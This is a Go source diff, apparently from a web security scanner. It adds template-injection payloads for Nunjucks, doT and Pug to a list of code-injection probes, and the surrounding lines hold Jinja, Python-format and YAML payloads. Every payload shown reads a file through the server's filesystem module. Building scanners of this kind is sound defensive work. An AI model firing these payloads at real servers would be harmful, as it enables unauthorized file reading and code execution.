@@ -65,6 +65,10 @@ var codeForms = []form{
 	evaluated("as an expression of Python with its words in parts", `getattr(getattr(print,"_"+"_self_"+"_"),"op"+"en")("@")`),
 	evaluated("in a template of Jinja with its words in codes", `{{ (cycler|attr("\x5f\x5finit\x5f\x5f")|attr("\x5f\x5fglobals\x5f\x5f")).os.open("@",0) }}`),
 	evaluated("in a template of EJS", `<%= process.getBuiltinModule("fs").readFileSync("@") %>`),
+	evaluated("in a template of Nunjucks", `{{ range.constructor("return process.getBuiltinModule('fs').readFileSync('@')")() }}`),
+	evaluated("in a template of doT", `{{= process.getBuiltinModule("fs").readFileSync("@") }}`),
+	evaluated("in a template of Pug", `| #{process.getBuiltinModule("fs").readFileSync("@")}`),
+	evaluated("in a filter of JSONPath", "$..[?("+machine+")]"),
 	evaluated("in a string of Python that is formatted", `{open("@")}`),
 	evaluated("as an expression of Python with letters in full width", wideNames),
 	evaluated("as YAML of Python whose tag is written in full", `!<tag:yaml.org,2002:python/object/apply:builtins.open> ["@"]`),
@@ -118,7 +122,7 @@ func (a Attempt) Formatted() bool {
 var globals = lazyregexp.New(`\{'__name__': '[\w.]{1,64}', '__doc__': `)
 
 const (
-	maxCode       = 80 // attempts on one target
+	maxCode       = 88 // attempts on one target
 	maxCodeFields = 2  // fields for all forms
 	likelyCode    = 4  // forms for the other fields
 )
